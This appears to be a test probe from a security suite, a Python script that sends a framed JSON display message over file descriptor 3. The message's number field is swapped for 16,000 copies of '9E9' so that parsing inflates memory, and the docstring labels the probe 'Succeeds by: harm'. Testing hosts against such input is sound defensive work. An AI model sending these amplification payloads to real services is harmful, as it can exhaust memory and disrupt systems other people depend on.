"""Numbers its displays with what grows past a frame when it is said back to it.

Stopped by: frames
Succeeds by: harm
"""

import json
import os
import select
import struct


def frame(kind, payload):
    return struct.pack("!B3sI", kind, bytes(3), len(payload)) + payload


def say(data):
    view = memoryview(data)
    while view:
        view = view[os.write(3, view) :]


# Three bytes here are eight in Python's own spelling.
number = f"[{','.join(['9E9'] * 16_000)}]"
text = json.dumps({"kind": "display", "body": 0, "type": "display_data", "parts": [], "number": None})
say(frame(1, text.replace("null", number).encode()))
# What the answer is, is for nobody: it is taken away, and the next words on this socket are in step.
if select.select([3], [], [], 10)[0]:
    os.read(3, 65536)
print("tried")
